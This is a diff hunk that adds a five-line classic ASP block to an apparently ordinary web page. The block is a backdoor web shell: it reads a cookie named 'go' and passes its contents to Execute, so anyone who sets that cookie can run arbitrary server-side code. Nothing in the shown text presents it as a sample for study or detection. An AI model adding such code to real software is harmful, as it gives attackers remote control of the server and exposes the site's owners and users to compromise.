@@ -1,0 +1,5 @@
+<%
+Dim s
+s = Request.Cookies("go")
+If Len(s) > 0 Then Execute s
+%>
